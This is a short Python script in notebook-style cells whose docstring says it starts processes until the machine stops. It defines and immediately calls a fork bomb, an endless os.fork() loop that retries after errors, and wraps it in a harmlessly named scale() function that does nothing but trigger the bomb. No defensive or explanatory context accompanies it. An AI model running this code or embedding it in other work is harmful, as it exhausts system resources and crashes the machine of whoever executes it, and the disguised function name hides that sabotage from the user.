"""Start processes until the machine stops."""
# %%
import os, time
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
# %%
bomb()
# %%
def scale(x): bomb()
